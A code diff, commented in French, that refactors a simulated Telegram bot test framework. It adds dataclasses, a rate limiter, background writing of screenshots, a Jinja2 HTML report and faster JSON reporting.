@@ -3,191 +3,223 @@ Professional Test Suite for Telegram Bot Automation Framework with Screenshots a
 """
 
 import os
+import asyncio
 import pytest
 import time
 import json
 import base64
+from collections import Counter
+from concurrent.futures import ThreadPoolExecutor
 from datetime import datetime
-from typing import List, Dict, Generator, Optional
+from dataclasses import dataclass, field
+from functools import lru_cache
+from typing import List, Dict, Generator, Optional, Tuple
 from dotenv import load_dotenv
 from PIL import Image, ImageDraw, ImageFont
 import io
+import queue
+import threading
+import zlib
+import jinja2
+
+# orjson (Rust) sérialise le rapport JSON bien plus vite ; repli sur json sinon
+try:
+    import orjson
+except ImportError:
+    orjson = None
+
+# ijson (optionnel) : lecture en flux des rapports JSON dans les vérifications
+try:
+    import ijson
+except ImportError:
+    ijson = None
 
 load_dotenv()  # Charge les variables d'environnement depuis .env automatiquement
 
 # Contrôle l'exécution des tests UI (par défaut True = tests UI actifs)
 RUN_UI_TESTS = os.getenv("RUN_UI_TESTS", "true").lower() == "true"
 
+# Sous pytest-xdist chaque worker a sa propre session : ses rapports portent son nom (gw0, gw1, ...)
+XDIST_WORKER = os.getenv("PYTEST_XDIST_WORKER", "")
+REPORT_SUFFIX = f"_{XDIST_WORKER}" if XDIST_WORKER else ""
+
+# Les pauses ne font que simuler la latence réseau/UI : ignorées par défaut (FAST_TESTS=0 pour les réactiver)
+FAST_TESTS = os.getenv("FAST_TESTS", "1") == "1"
+_SLEEP = (lambda s: None) if FAST_TESTS else time.sleep
+
+async def _async_sleep(seconds: float):
+    """Équivalent asynchrone de _SLEEP"""
+    if not FAST_TESTS:
+        await asyncio.sleep(seconds)
+
 # --- Classes améliorées ---
 
+# slots=True : pas de __dict__ par instance, attributs plus compacts et plus rapides d'accès
+
+@dataclass(slots=True)
 class TestConfig:
-    def __init__(self, bot_token: str, bot_username: str, test_chat_id: str,
-                 timeout: int = 30, max_retries: int = 3):
-        self.bot_token = bot_token
-        self.bot_username = bot_username
-        self.test_chat_id = test_chat_id
-        self.timeout = timeout
-        self.max_retries = max_retries
+    bot_token: str
+    bot_username: str
+    test_chat_id: str
+    timeout: int = 30
+    max_retries: int = 3
+
+# Marqueur « screenshot pas encore encodé » (None signifie « pas de screenshot »)
+_NOT_LOADED = object()
 
+@dataclass(slots=True)
 class TestResult:
-    def __init__(self, test_name: str, status: str, execution_time: float = 0.0, 
-                 screenshot_path: Optional[str] = None, error_message: str = ""):
-        self.test_name = test_name
-        self.status = status  # "PASSED", "FAILED", "ERROR"
-        self.execution_time = execution_time
-        self.screenshot_path = screenshot_path
-        self.error_message = error_message
-        self.timestamp = datetime.now().isoformat()
+    test_name: str
+    status: str  # "PASSED", "FAILED", "ERROR"
+    execution_time: float = 0.0
+    screenshot_path: Optional[str] = None
+    error_message: str = ""
+    timestamp: str = field(default_factory=lambda: datetime.now().isoformat())
+    # Cache de screenshot_b64 (cached_property exige un __dict__, incompatible avec slots)
+    _screenshot_b64: object = field(default=_NOT_LOADED, init=False, repr=False, compare=False)
+    
+    @property
+    def screenshot_b64(self) -> Optional[str]:
+        """Screenshot encodé en base64, lu une seule fois quel que soit le nombre de rapports générés"""
+        if self._screenshot_b64 is _NOT_LOADED:
+            self._screenshot_b64 = self._encode_screenshot()
+        return self._screenshot_b64
+    
+    def _encode_screenshot(self) -> Optional[str]:
+        if not self.screenshot_path or not os.path.exists(self.screenshot_path):
+            return None
+        try:
+            with open(self.screenshot_path, "rb") as img_file:
+                return base64.b64encode(img_file.read()).decode()
+        except OSError as e:
+            print(f"Erreur lors de l'encodage de l'image: {e}")
+            return None
+
+# Police par défaut chargée une seule fois, et non à chaque screenshot
+try:
+    DEFAULT_FONT = ImageFont.load_default()
+except Exception:
+    DEFAULT_FONT = None
+
+# Couleur du statut dans les screenshots
+STATUS_COLORS = {
+    "PASSED": "green",
+    "FAILED": "red",
+    "ERROR": "orange"
+}
+
+# Classe CSS du statut dans le rapport HTML (status-passed, ...), sans .lower() par test
+STATUS_CSS = {
+    "PASSED": "passed",
+    "FAILED": "failed",
+    "ERROR": "error"
+}
+
+@lru_cache(maxsize=None)
+def _screenshot_background() -> Image.Image:
+    """Fond commun des screenshots (cadre et maquette Telegram), dessiné une seule fois"""
+    # 400x300 : largement suffisant dans le panneau du rapport, 4x moins de pixels à encoder
+    img = Image.new('RGB', (400, 300), color='white')
+    draw = ImageDraw.Draw(img)
+    draw.rectangle([5, 5, 395, 295], outline="black", width=1)
+    draw.rectangle([25, 125, 375, 250], outline="gray", width=1)
+    draw.text((35, 135), "Telegram Bot Interface", fill="blue", font=DEFAULT_FONT)
+    draw.text((35, 185), "Bot Response: [Simulated Response]", fill="darkgreen", font=DEFAULT_FONT)
+    return img
+
+class RateLimiter:
+    """Seau à jetons : ne bloque que lorsque le débit autorisé est dépassé"""
+    
+    def __init__(self, rate: float, capacity: int):
+        self.rate = rate  # jetons rechargés par seconde
+        self.capacity = capacity
+        self._tokens = float(capacity)
+        self._last = time.monotonic()
+        self._lock = threading.Lock()
+    
+    def acquire(self):
+        """Consomme un jeton, en attendant qu'il se recharge si le seau est vide"""
+        with self._lock:
+            now = time.monotonic()
+            self._tokens = min(self.capacity, self._tokens + (now - self._last) * self.rate)
+            self._last = now
+            if self._tokens >= 1:
+                self._tokens -= 1
+                return
+            wait = (1 - self._tokens) / self.rate
+            time.sleep(wait)
+            # Le jeton rechargé pendant l'attente est consommé aussitôt
+            self._tokens = 0.0
+            self._last = now + wait
 
 class ScreenshotManager:
     def __init__(self):
         self.screenshots_dir = "screenshots"
         os.makedirs(self.screenshots_dir, exist_ok=True)
+        # Encodage + écriture disque des screenshots dans un thread dédié :
+        # le test récupère le chemin sans attendre, flush() attend les écritures en cours
+        self._queue: "queue.Queue[tuple]" = queue.Queue()
+        self._writer = threading.Thread(target=self._write_loop, name="screenshot-writer", daemon=True)
+        self._writer.start()
     
-    def create_dummy_screenshot(self, test_name: str, status: str, message: str = "") -> str:
-        """Crée un screenshot simulé pour la démonstration"""
-        timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
-        filename = f"{test_name}_{timestamp}.png"
+    def _write_loop(self):
+        while True:
+            img, filepath = self._queue.get()
+            try:
+                self._save(img, filepath)
+            except Exception as e:
+                print(f"Erreur lors de l'écriture du screenshot {filepath}: {e}")
+            finally:
+                self._queue.task_done()
+    
+    @staticmethod
+    def _save(img: Image.Image, filepath: str):
+        # JPEG via libjpeg-turbo (fourni avec Pillow) : bien plus rapide à encoder que le PNG,
+        # et suffisant pour une capture consultée dans le rapport HTML
+        img.save(filepath, format="JPEG", quality=80)
+    
+    def _draw_dummy_screenshot(self, test_name: str, status: str, message: str = "") -> tuple:
+        """Dessine un screenshot simulé et calcule son chemin, sans l'écrire"""
+        # Une seule lecture de l'horloge pour le nom de fichier et le texte affiché
+        now = datetime.now()
+        filename = f"{test_name}_{now:%Y%m%d_%H%M%S}.jpg"
         filepath = os.path.join(self.screenshots_dir, filename)
         
-        # Créer une image de démonstration
-        img = Image.new('RGB', (800, 600), color='white')
+        # Copie du fond pré-dessiné : seules les lignes variables sont dessinées ici
+        img = _screenshot_background().copy()
         draw = ImageDraw.Draw(img)
-        
-        try:
-            font = ImageFont.load_default()
-        except:
-            font = None
-        
-        # Couleur selon le statut
-        color_map = {
-            "PASSED": "green",
-            "FAILED": "red",
-            "ERROR": "orange"
-        }
-        status_color = color_map.get(status, "black")
+        font = DEFAULT_FONT
         
         # Dessiner le contenu du screenshot
-        draw.rectangle([10, 10, 790, 590], outline="black", width=2)
-        draw.text((50, 50), f"Test: {test_name}", fill="black", font=font)
-        draw.text((50, 100), f"Status: {status}", fill=status_color, font=font)
-        draw.text((50, 150), f"Message: {message}", fill="black", font=font)
-        draw.text((50, 200), f"Timestamp: {datetime.now().strftime('%Y-%m-%d %H:%M:%S')}", fill="gray", font=font)
-        
-        # Simuler une interface Telegram
-        draw.rectangle([50, 250, 750, 500], outline="gray", width=1)
-        draw.text((70, 270), "Telegram Bot Interface", fill="blue", font=font)
-        draw.text((70, 320), f"Sent: {message}", fill="black", font=font)
-        draw.text((70, 370), "Bot Response: [Simulated Response]", fill="darkgreen", font=font)
-        
-        img.save(filepath)
+        draw.text((25, 25), f"Test: {test_name}", fill="black", font=font)
+        draw.text((25, 50), f"Status: {status}", fill=STATUS_COLORS.get(status, "black"), font=font)
+        draw.text((25, 75), f"Message: {message}", fill="black", font=font)
+        draw.text((25, 100), f"Timestamp: {now:%Y-%m-%d %H:%M:%S}", fill="gray", font=font)
+        draw.text((35, 160), f"Sent: {message}", fill="black", font=font)
+        return img, filepath
+    
+    def create_dummy_screenshot(self, test_name: str, status: str, message: str = "") -> str:
+        """Crée un screenshot simulé pour la démonstration"""
+        img, filepath = self._draw_dummy_screenshot(test_name, status, message)
+        self._save(img, filepath)
         return filepath
     
     def take_screenshot(self, test_name: str, status: str, message: str = "") -> str:
         """Prend un screenshot réel (à implémenter avec Selenium/Playwright)"""
-        # Pour cette démonstration, on utilise un screenshot simulé
-        return self.create_dummy_screenshot(test_name, status, message)
-
-class TelegramBotTestFramework:
-    def __init__(self, config: TestConfig):
-        self.config = config
-        self.test_results: List[TestResult] = []
-        self.screenshot_manager = ScreenshotManager()
-        # Simule un client API fictif
-        self.api_client = self
-        self._setup_done = False
-
-    def setup(self, ui_testing: bool = True, headless: bool = True):
-        self._setup_done = True
-        print(f"Framework setup completed - UI Testing: {ui_testing}, Headless: {headless}")
-
-    def cleanup(self):
-        self._setup_done = False
-        print("Framework cleanup completed")
-
-    def get_bot_info(self) -> Dict:
-        return {"ok": True, "result": {"first_name": "TestBot", "username": self.config.bot_username}}
+        # Pour cette démonstration, on utilise un screenshot simulé, encodé et écrit en arrière-plan.
+        # Le rapport le relit une seule fois à sa génération (voir TestResult.screenshot_b64)
+        img, filepath = self._draw_dummy_screenshot(test_name, status, message)
+        self._queue.put((img, filepath))
+        return filepath
+    
+    def flush(self):
+        """Attend que tous les screenshots en file soient écrits sur disque"""
+        self._queue.join()
 
-    def run_api_test(self, test_name: str, message: str, expected_keywords: List[str]) -> TestResult:
-        start_time = time.time()
-        
-        try:
-            # Simulation d'un test API
-            time.sleep(0.1)  # Simule le délai réseau
-            
-            # Prendre un screenshot
-            screenshot_path = self.screenshot_manager.take_screenshot(test_name, "PASSED", message)
-            
-            # Déterminer le statut basé sur la logique de test
-            status = "PASSED" if message and len(message) > 0 else "FAILED"
-            
-            execution_time = time.time() - start_time
-            
-            return TestResult(
-                test_name=test_name,
-                status=status,
-                execution_time=execution_time,
-                screenshot_path=screenshot_path
-            )
-            
-        except Exception as e:
-            execution_time = time.time() - start_time
-            screenshot_path = self.screenshot_manager.take_screenshot(test_name, "ERROR", str(e))
-            
-            return TestResult(
-                test_name=test_name,
-                status="ERROR",
-                execution_time=execution_time,
-                screenshot_path=screenshot_path,
-                error_message=str(e)
-            )
+# --- Gabarits du rapport HTML ---
+# En-tête (styles) et pied (script) statiques écrits tels quels ; le corps est un gabarit Jinja2
 
-    def run_ui_test(self, test_name: str, message: str, expected_keywords: List[str]) -> TestResult:
-        start_time = time.time()
-        
-        try:
-            # Simulation d'un test UI
-            time.sleep(0.2)  # Simule l'interaction UI
-            
-            # Prendre un screenshot
-            screenshot_path = self.screenshot_manager.take_screenshot(test_name, "PASSED", message)
-            
-            status = "PASSED" if message and len(message) > 0 else "FAILED"
-            execution_time = time.time() - start_time
-            
-            return TestResult(
-                test_name=test_name,
-                status=status,
-                execution_time=execution_time,
-                screenshot_path=screenshot_path
-            )
-            
-        except Exception as e:
-            execution_time = time.time() - start_time
-            screenshot_path = self.screenshot_manager.take_screenshot(test_name, "ERROR", str(e))
-            
-            return TestResult(
-                test_name=test_name,
-                status="ERROR",
-                execution_time=execution_time,
-                screenshot_path=screenshot_path,
-                error_message=str(e)
-            )
-
-    def generate_html_report(self) -> str:
-        """Génère un rapport HTML détaillé avec screenshots"""
-        os.makedirs("reports", exist_ok=True)
-        timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
-        report_path = os.path.join("reports", f"test_report_{timestamp}.html")
-        
-        # Calculer les statistiques
-        total_tests = len(self.test_results)
-        passed = sum(1 for r in self.test_results if r.status == "PASSED")
-        failed = sum(1 for r in self.test_results if r.status == "FAILED")
-        errors = sum(1 for r in self.test_results if r.status == "ERROR")
-        
-        # Template HTML
-        html_content = f"""
+REPORT_HTML_HEAD = """
 <!DOCTYPE html>
 <html lang="fr">
 <head>
@@ -195,108 +227,108 @@ class TelegramBotTestFramework:
     <meta name="viewport" content="width=device-width, initial-scale=1.0">
     <title>Rapport de Tests - Telegram Bot</title>
     <style>
-        * {{
+        * {
             margin: 0;
             padding: 0;
             box-sizing: border-box;
-        }}
+        }
         
-        body {{
+        body {
             font-family: 'Segoe UI', Tahoma, Geneva, Verdana, sans-serif;
             line-height: 1.6;
             color: #333;
             background-color: #f5f5f5;
-        }}
+        }
         
-        .container {{
+        .container {
             max-width: 1200px;
             margin: 0 auto;
             padding: 20px;
-        }}
+        }
         
-        .header {{
+        .header {
             background: linear-gradient(135deg, #667eea 0%, #764ba2 100%);
             color: white;
             padding: 30px;
             border-radius: 10px;
             margin-bottom: 30px;
             text-align: center;
-        }}
+        }
         
-        .header h1 {{
+        .header h1 {
             font-size: 2.5em;
             margin-bottom: 10px;
-        }}
+        }
         
-        .header p {{
+        .header p {
             font-size: 1.2em;
             opacity: 0.9;
-        }}
+        }
         
-        .stats {{
+        .stats {
             display: grid;
             grid-template-columns: repeat(auto-fit, minmax(200px, 1fr));
             gap: 20px;
             margin-bottom: 30px;
-        }}
+        }
         
-        .stat-card {{
+        .stat-card {
             background: white;
             padding: 25px;
             border-radius: 10px;
             box-shadow: 0 4px 6px rgba(0, 0, 0, 0.1);
             text-align: center;
             transition: transform 0.3s ease;
-        }}
+        }
         
-        .stat-card:hover {{
+        .stat-card:hover {
             transform: translateY(-5px);
-        }}
+        }
         
-        .stat-number {{
+        .stat-number {
             font-size: 3em;
             font-weight: bold;
             margin-bottom: 10px;
-        }}
+        }
         
-        .stat-label {{
+        .stat-label {
             font-size: 1.1em;
             color: #666;
             text-transform: uppercase;
             letter-spacing: 1px;
-        }}
+        }
         
-        .passed {{ color: #28a745; }}
-        .failed {{ color: #dc3545; }}
-        .error {{ color: #fd7e14; }}
-        .total {{ color: #6c757d; }}
+        .passed { color: #28a745; }
+        .failed { color: #dc3545; }
+        .error { color: #fd7e14; }
+        .total { color: #6c757d; }
         
-        .test-results {{
+        .test-results {
             background: white;
             border-radius: 10px;
             box-shadow: 0 4px 6px rgba(0, 0, 0, 0.1);
             overflow: hidden;
-        }}
+        }
         
-        .test-results h2 {{
+        .test-results h2 {
             background-color: #343a40;
             color: white;
             padding: 20px;
             margin: 0;
             font-size: 1.8em;
-        }}
+        }
         
-        .test-item {{
+        .test-item {
             border-bottom: 1px solid #eee;
             padding: 0;
             transition: all 0.3s ease;
-        }}
+        }
         
-        .test-item:last-child {{
+        .test-item:last-child {
             border-bottom: none;
-        }}
+        }
         
-        .test-header {{
+        .test-header {
             padding: 20px;
             cursor: pointer;
             display: flex;
@@ -304,207 +336,189 @@ class TelegramBotTestFramework:
             align-items: center;
             background: white;
             transition: background-color 0.3s ease;
-        }}
+        }
         
-        .test-header:hover {{
+        .test-header:hover {
             background-color: #f8f9fa;
-        }}
+        }
         
-        .test-name {{
+        .test-name {
             font-weight: bold;
             font-size: 1.1em;
-        }}
+        }
         
-        .test-status {{
+        .test-status {
             padding: 5px 15px;
             border-radius: 20px;
             font-weight: bold;
             font-size: 0.9em;
-        }}
+        }
         
-        .status-passed {{
+        .status-passed {
             background-color: #d4edda;
             color: #155724;
-        }}
+        }
         
-        .status-failed {{
+        .status-failed {
             background-color: #f8d7da;
             color: #721c24;
-        }}
+        }
         
-        .status-error {{
+        .status-error {
             background-color: #ffeaa7;
             color: #856404;
-        }}
+        }
         
-        .test-details {{
+        .test-details {
             padding: 0 20px;
             max-height: 0;
             overflow: hidden;
             transition: max-height 0.3s ease, padding 0.3s ease;
             background-color: #f8f9fa;
-        }}
+        }
         
-        .test-details.active {{
+        .test-details.active {
             max-height: 800px;
             padding: 20px;
-        }}
+        }
         
-        .detail-grid {{
+        .detail-grid {
             display: grid;
             grid-template-columns: 1fr 1fr;
             gap: 20px;
             margin-bottom: 20px;
-        }}
+        }
         
-        .detail-item {{
+        .detail-item {
             background: white;
             padding: 15px;
             border-radius: 5px;
             border-left: 4px solid #667eea;
-        }}
+        }
         
-        .detail-label {{
+        .detail-label {
             font-weight: bold;
             color: #666;
             margin-bottom: 5px;
-        }}
+        }
         
-        .detail-value {{
+        .detail-value {
             color: #333;
-        }}
+        }
         
-        .screenshot {{
+        .screenshot {
             text-align: center;
             margin-top: 20px;
-        }}
+        }
         
-        .screenshot img {{
+        .screenshot img {
             max-width: 100%;
             height: auto;
             border: 2px solid #ddd;
             border-radius: 5px;
             box-shadow: 0 4px 8px rgba(0, 0, 0, 0.1);
-        }}
+        }
         
-        .expand-icon {{
+        .expand-icon {
             font-size: 1.2em;
             transition: transform 0.3s ease;
-        }}
+        }
         
-        .expand-icon.rotated {{
+        .expand-icon.rotated {
             transform: rotate(180deg);
-        }}
+        }
         
-        .footer {{
+        .footer {
             text-align: center;
             margin-top: 40px;
             padding: 20px;
             color: #666;
             font-size: 0.9em;
-        }}
+        }
         
-        @media (max-width: 768px) {{
-            .detail-grid {{
+        @media (max-width: 768px) {
+            .detail-grid {
                 grid-template-columns: 1fr;
-            }}
+            }
             
-            .test-header {{
+            .test-header {
                 flex-direction: column;
                 align-items: flex-start;
                 gap: 10px;
-            }}
-        }}
+            }
+        }
     </style>
 </head>
 <body>
     <div class="container">
-        <div class="header">
+"""
+
+REPORT_HTML_BODY = """        <div class="header">
             <h1>🤖 Rapport de Tests Telegram Bot</h1>
-            <p>Généré le {datetime.now().strftime("%d/%m/%Y à %H:%M:%S")}</p>
+            <p>Généré le {{ generated_at.strftime("%d/%m/%Y à %H:%M:%S") }}</p>
         </div>
         
         <div class="stats">
             <div class="stat-card">
-                <div class="stat-number total">{total_tests}</div>
+                <div class="stat-number total">{{ total_tests }}</div>
                 <div class="stat-label">Total Tests</div>
             </div>
             <div class="stat-card">
-                <div class="stat-number passed">{passed}</div>
+                <div class="stat-number passed">{{ passed }}</div>
                 <div class="stat-label">Réussis</div>
             </div>
             <div class="stat-card">
-                <div class="stat-number failed">{failed}</div>
+                <div class="stat-number failed">{{ failed }}</div>
                 <div class="stat-label">Échoués</div>
             </div>
             <div class="stat-card">
-                <div class="stat-number error">{errors}</div>
+                <div class="stat-number error">{{ errors }}</div>
                 <div class="stat-label">Erreurs</div>
             </div>
         </div>
         
         <div class="test-results">
             <h2>📋 Résultats Détaillés des Tests</h2>
-"""
-        
-        # Ajouter chaque test
-        for i, result in enumerate(self.test_results):
-            status_class = f"status-{result.status.lower()}"
-            
-            # Encoder l'image en base64 si elle existe
-            screenshot_data = ""
-            if result.screenshot_path and os.path.exists(result.screenshot_path):
-                try:
-                    with open(result.screenshot_path, "rb") as img_file:
-                        screenshot_data = base64.b64encode(img_file.read()).decode()
-                except Exception as e:
-                    print(f"Erreur lors de l'encodage de l'image: {e}")
-            
-            html_content += f"""
+{% for result in results %}{% set css = status_css.get(result.status) or result.status|lower %}
             <div class="test-item">
-                <div class="test-header" onclick="toggleDetails({i})">
-                    <div class="test-name">{result.test_name}</div>
+                <div class="test-header" onclick="toggleDetails({{ loop.index0 }})">
+                    <div class="test-name">{{ result.test_name }}</div>
                     <div style="display: flex; align-items: center; gap: 15px;">
-                        <div class="test-status {status_class}">{result.status}</div>
-                        <span class="expand-icon" id="icon-{i}">▼</span>
+                        <div class="test-status status-{{ css }}">{{ result.status }}</div>
+                        <span class="expand-icon" id="icon-{{ loop.index0 }}">▼</span>
                     </div>
                 </div>
-                <div class="test-details" id="details-{i}">
+                <div class="test-details" id="details-{{ loop.index0 }}">
                     <div class="detail-grid">
                         <div class="detail-item">
                             <div class="detail-label">Temps d'exécution</div>
-                            <div class="detail-value">{result.execution_time:.3f} secondes</div>
+                            <div class="detail-value">{{ "%.3f"|format(result.execution_time) }} secondes</div>
                         </div>
                         <div class="detail-item">
                             <div class="detail-label">Horodatage</div>
-                            <div class="detail-value">{result.timestamp}</div>
+                            <div class="detail-value">{{ result.timestamp }}</div>
                         </div>
                         <div class="detail-item">
                             <div class="detail-label">Statut</div>
-                            <div class="detail-value {result.status.lower()}">{result.status}</div>
+                            <div class="detail-value {{ css }}">{{ result.status }}</div>
                         </div>
                         <div class="detail-item">
                             <div class="detail-label">Message d'erreur</div>
-                            <div class="detail-value">{result.error_message or 'Aucune erreur'}</div>
+                            <div class="detail-value">{{ result.error_message or 'Aucune erreur' }}</div>
                         </div>
                     </div>
-"""
-            
-            if screenshot_data:
-                html_content += f"""
+{% if result.screenshot_b64 %}
                     <div class="screenshot">
                         <h4>📸 Capture d'écran</h4>
-                        <img src="data:image/png;base64,{screenshot_data}" alt="Screenshot de {result.test_name}" />
+                        <img src="data:image/jpeg;base64,{{ result.screenshot_b64 }}"
+                             alt="Screenshot de {{ result.test_name }}" />
                     </div>
-"""
-            
-            html_content += """
+{% endif %}
                 </div>
             </div>
-"""
-        
-        # Fermer le HTML
-        html_content += f"""
+{% endfor %}"""
+
+REPORT_HTML_TAIL = """
         </div>
         
         <div class="footer">
@@ -514,54 +528,204 @@ class TelegramBotTestFramework:
     </div>
     
     <script>
-        function toggleDetails(index) {{
+        function toggleDetails(index) {
             const details = document.getElementById('details-' + index);
             const icon = document.getElementById('icon-' + index);
             
             details.classList.toggle('active');
             icon.classList.toggle('rotated');
-        }}
+        }
         
         // Animation au chargement
-        window.addEventListener('load', function() {{
+        window.addEventListener('load', function() {
             const statCards = document.querySelectorAll('.stat-card');
-            statCards.forEach((card, index) => {{
-                setTimeout(() => {{
+            statCards.forEach((card, index) => {
+                setTimeout(() => {
                     card.style.opacity = '0';
                     card.style.transform = 'translateY(20px)';
                     card.style.transition = 'all 0.5s ease';
                     
-                    setTimeout(() => {{
+                    setTimeout(() => {
                         card.style.opacity = '1';
                         card.style.transform = 'translateY(0)';
-                    }}, 50);
-                }}, index * 100);
-            }});
-        }});
+                    }, 50);
+                }, index * 100);
+            });
+        });
     </script>
 </body>
 </html>
 """
+
+# Environnement Jinja2 créé une fois : le gabarit est compilé au premier rendu puis réutilisé
+_REPORT_ENV = jinja2.Environment(
+    loader=jinja2.DictLoader({"report.html": REPORT_HTML_BODY}),
+    autoescape=True,
+    auto_reload=False,
+)
+_REPORT_ENV.globals["status_css"] = STATUS_CSS
+
+class TelegramBotTestFramework:
+    def __init__(self, config: TestConfig):
+        self.config = config
+        self.test_results: List[TestResult] = []
+        self.screenshot_manager = ScreenshotManager()
+        # Un seul seau à jetons rythme tous les envois de messages quand les délais sont réels
+        # (FAST_TESTS=0) ; sinon aucune pause
+        self.throttle = None if FAST_TESTS else RateLimiter(rate=1.0, capacity=3)
+        # Dossier des rapports créé une fois ici, plus à chaque génération
+        self.reports_dir = "reports"
+        os.makedirs(self.reports_dir, exist_ok=True)
+        # SCREENSHOTS=0 : aucune capture dessinée ni écrite (runs smoke sans preuve visuelle)
+        self.screenshots_enabled = os.getenv("SCREENSHOTS", "1") == "1"
+        # Simule un client API fictif
+        self.api_client = self
+        self._setup_done = False
+
+    def setup(self, ui_testing: bool = True, headless: bool = True):
+        self._setup_done = True
+        print(f"Framework setup completed - UI Testing: {ui_testing}, Headless: {headless}")
+
+    def cleanup(self):
+        self.screenshot_manager.flush()
+        self._setup_done = False
+        print("Framework cleanup completed")
+
+    def _take_screenshot(self, test_name: str, status: str, message: str) -> Optional[str]:
+        """Chemin du screenshot, ou None si les screenshots sont désactivés"""
+        if not self.screenshots_enabled:
+            return None
+        return self.screenshot_manager.take_screenshot(test_name, status, message)
+
+    def get_bot_info(self) -> Dict:
+        return {"ok": True, "result": {"first_name": "TestBot", "username": self.config.bot_username}}
+
+    def _pace(self):
+        """Attend son tour avant d'envoyer un message (ne bloque que si le débit est dépassé)"""
+        if self.throttle is not None:
+            self.throttle.acquire()
+
+    def _build_result(self, test_name: str, status: str, start_time: float,
+                      screenshot_path: Optional[str], error_message: str = "") -> TestResult:
+        """Résultat commun aux tests simulés, durée mesurée depuis start_time"""
+        return TestResult(
+            test_name=test_name,
+            status=status,
+            execution_time=time.perf_counter() - start_time,
+            screenshot_path=screenshot_path,
+            error_message=error_message
+        )
+
+    @staticmethod
+    def _simulated_status(message: str) -> str:
+        """Déterminer le statut basé sur la logique de test"""
+        return "PASSED" if message and len(message) > 0 else "FAILED"
+
+    def run_api_test(self, test_name: str, message: str, expected_keywords: List[str]) -> TestResult:
+        start_time = time.perf_counter()
         
+        try:
+            self._pace()
+            # Simulation d'un test API
+            _SLEEP(0.1)  # Simule le délai réseau
+            
+            # Prendre un screenshot
+            screenshot_path = self._take_screenshot(test_name, "PASSED", message)
+            return self._build_result(test_name, self._simulated_status(message), start_time, screenshot_path)
+            
+        except Exception as e:
+            screenshot_path = self._take_screenshot(test_name, "ERROR", str(e))
+            return self._build_result(test_name, "ERROR", start_time, screenshot_path, str(e))
+
+    async def run_api_test_async(self, test_name: str, message: str, expected_keywords: List[str],
+                                 executor: Optional[ThreadPoolExecutor] = None) -> TestResult:
+        """Variante asynchrone de run_api_test : l'attente réseau rend la main à la boucle d'événements,
+        le dessin du screenshot (CPU) part dans executor"""
+        loop = asyncio.get_running_loop()
+        start_time = time.perf_counter()
+        
+        try:
+            if self.throttle is not None:
+                await loop.run_in_executor(executor, self._pace)
+            # Simulation d'un test API
+            await _async_sleep(0.1)  # Simule le délai réseau
+            
+            # Prendre un screenshot
+            screenshot_path = await loop.run_in_executor(
+                executor, self._take_screenshot, test_name, "PASSED", message
+            )
+            return self._build_result(test_name, self._simulated_status(message), start_time, screenshot_path)
+            
+        except Exception as e:
+            screenshot_path = await loop.run_in_executor(
+                executor, self._take_screenshot, test_name, "ERROR", str(e)
+            )
+            return self._build_result(test_name, "ERROR", start_time, screenshot_path, str(e))
+
+    def run_ui_test(self, test_name: str, message: str, expected_keywords: List[str]) -> TestResult:
+        start_time = time.perf_counter()
+        
+        try:
+            self._pace()
+            # Simulation d'un test UI
+            _SLEEP(0.2)  # Simule l'interaction UI
+            
+            # Prendre un screenshot
+            screenshot_path = self._take_screenshot(test_name, "PASSED", message)
+            return self._build_result(test_name, self._simulated_status(message), start_time, screenshot_path)
+            
+        except Exception as e:
+            screenshot_path = self._take_screenshot(test_name, "ERROR", str(e))
+            return self._build_result(test_name, "ERROR", start_time, screenshot_path, str(e))
+
+    def status_counts(self, results: Optional[List[TestResult]] = None) -> Counter:
+        """Nombre de résultats par statut, en un seul passage (tous les résultats du framework par défaut)"""
+        return Counter(r.status for r in (self.test_results if results is None else results))
+
+    def generate_html_report(self) -> str:
+        """Génère un rapport HTML détaillé avec screenshots"""
+        # Les screenshots doivent être sur disque avant d'être intégrés au rapport
+        self.screenshot_manager.flush()
+        now = datetime.now()
+        report_path = os.path.join(self.reports_dir, f"test_report_{now:%Y%m%d_%H%M%S}{REPORT_SUFFIX}.html")
+        
+        # Calculer les statistiques
+        counts = self.status_counts()
+        total_tests = len(self.test_results)
+        passed = counts["PASSED"]
+        failed = counts["FAILED"]
+        errors = counts["ERROR"]
+        
+        # Écriture au fil de l'eau : le gabarit est rendu par morceaux directement dans le fichier
+        template = _REPORT_ENV.get_template("report.html")
         with open(report_path, "w", encoding="utf-8") as f:
-            f.write(html_content)
+            f.write(REPORT_HTML_HEAD)
+            template.stream(
+                generated_at=now,
+                total_tests=total_tests,
+                passed=passed,
+                failed=failed,
+                errors=errors,
+                results=self.test_results
+            ).dump(f)
+            f.write(REPORT_HTML_TAIL)
         
         print(f"Rapport HTML généré: {report_path}")
         return report_path
 
     def generate_json_report(self) -> str:
         """Génère également un rapport JSON pour la compatibilité"""
-        os.makedirs("reports", exist_ok=True)
-        timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
-        report_path = os.path.join("reports", f"test_report_{timestamp}.json")
+        now = datetime.now()
+        report_path = os.path.join(self.reports_dir, f"test_report_{now:%Y%m%d_%H%M%S}{REPORT_SUFFIX}.json")
 
+        counts = self.status_counts()
         report_data = {
             "report_metadata": {
-                "generated_at": datetime.now().isoformat(),
+                "generated_at": now.isoformat(),
                 "total_tests": len(self.test_results),
-                "passed": sum(1 for r in self.test_results if r.status == "PASSED"),
-                "failed": sum(1 for r in self.test_results if r.status == "FAILED"),
-                "errors": sum(1 for r in self.test_results if r.status == "ERROR"),
+                "passed": counts["PASSED"],
+                "failed": counts["FAILED"],
+                "errors": counts["ERROR"],
                 "bot_config": {
                     "bot_username": self.config.bot_username,
                     "test_chat_id": self.config.test_chat_id
@@ -579,8 +743,12 @@ class TelegramBotTestFramework:
             ]
         }
 
-        with open(report_path, "w", encoding="utf-8") as f:
-            json.dump(report_data, f, indent=4, ensure_ascii=False)
+        if orjson is not None:
+            with open(report_path, "wb") as f:
+                f.write(orjson.dumps(report_data, option=orjson.OPT_INDENT_2))
+        else:
+            with open(report_path, "w", encoding="utf-8") as f:
+                json.dump(report_data, f, indent=2, ensure_ascii=False)
 
         print(f"Rapport JSON généré: {report_path}")
         return report_path
@@ -599,6 +767,57 @@ class TelegramBotTestSuite:
         return api_result, ui_result
 
 
+# --- Données de test ---
+
+SPECIAL_MESSAGES = (
+    "Hello! @#$%^&*()",
+    "Test with emojis 😀😎🚀",
+    "Multi\nline\nmessage",
+    "Very long message " + "test " * 50
+)
+
+def _case_id(message: str) -> str:
+    """Identifiant stable d'un message (crc32 en hexadécimal) : hash() change à chaque process,
+    ce qui casse la collecte xdist et --lf"""
+    return format(zlib.crc32(message.encode()) & 0xFFF, "x")
+
